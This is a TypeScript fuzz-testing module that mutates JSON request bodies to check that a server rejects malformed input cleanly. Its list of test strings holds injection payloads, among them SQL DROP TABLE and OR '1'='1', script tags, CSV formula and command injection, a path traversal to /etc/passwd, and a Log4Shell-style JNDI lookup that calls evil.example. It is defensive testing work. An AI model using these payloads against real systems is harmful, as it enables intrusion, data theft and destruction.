/** Strings that have broken other systems: SQL, HTML, CSV formulas, terminal escapes, huge and odd text. */
export const NASTY_STRINGS = [
  "'; DROP TABLE events; --",
  "x' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","click")',
  '+cmd|/C calc!A0',
  '\u0000\u0007\u001b[31mred\u001b[0m\r\n',
  '\u202Egnp.exe',
  '../../../../etc/passwd',
  '\u0024{jndi:ldap://evil.example/a}',
  '%s%s%s%n',
  'ns://a:b:c::d',
  '😀'.repeat(200),
  'x'.repeat(20_000),
  ' ',
  '',
];

/** A small seeded PRNG (mulberry32), so a failing case can be replayed from its seed. */
export function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function pick<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)] as T;
}

function randomValue(random: () => number): unknown {
  const choice = Math.floor(random() * 10);
  switch (choice) {
    case 0:
      return null;
    case 1:
      return random() < 0.5;
    case 2:
      return pick(random, [0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 1]);
    case 3:
      return [];
    case 4:
      return {};
    case 5: {
      let nested: unknown = 'bottom';
      for (let i = 0; i < 200; i++) nested = { n: nested };
      return nested;
    }
    case 6:
      return Array.from({ length: 50 }, (_, i) => ({ name: `c${i}`, type: 'string' }));
    default:
      return pick(random, NASTY_STRINGS);
  }
}

/** Every path to a value inside `root` (object keys and array indexes). */
function paths(
  root: unknown,
  prefix: (string | number)[] = [],
  out: (string | number)[][] = [],
): (string | number)[][] {
  if (out.length > 400) return out;
  if (Array.isArray(root)) {
    root.forEach((item, i) => {
      out.push([...prefix, i]);
      paths(item, [...prefix, i], out);
    });
  } else if (root !== null && typeof root === 'object') {
    for (const [key, value] of Object.entries(root)) {
      out.push([...prefix, key]);
      paths(value, [...prefix, key], out);
    }
  }
  return out;
}

function parentOf(root: unknown, path: (string | number)[]): Record<string | number, unknown> | null {
  let current: unknown = root;
  for (const step of path.slice(0, -1)) {
    if (current === null || typeof current !== 'object') return null;
    current = Reflect.get(current, step);
  }
  return current !== null && typeof current === 'object' ? (current as Record<string | number, unknown>) : null;
}

/**
 * Returns a mutated deep copy of `value`: one to three random edits (a key deleted, a value
 * replaced by another type, a nasty string, deep nesting, a long list), so structure, types and
 * content are all attacked. Structure the edit removes is what the server must reject cleanly.
 */
export function mutate<T>(value: T, random: () => number): unknown {
  const copy: unknown = structuredClone(value);
  const edits = 1 + Math.floor(random() * 3);
  for (let e = 0; e < edits; e++) {
    const all = paths(copy);
    if (all.length === 0) return randomValue(random);
    const path = pick(random, all);
    const parent = parentOf(copy, path);
    const key = path[path.length - 1];
    if (!parent || key === undefined) continue;
    const action = random();
    if (action < 0.25 && !Array.isArray(parent)) delete parent[key];
    else if (action < 0.5) parent[key] = pick(random, NASTY_STRINGS);
    else parent[key] = randomValue(random);
  }
  return copy;
}
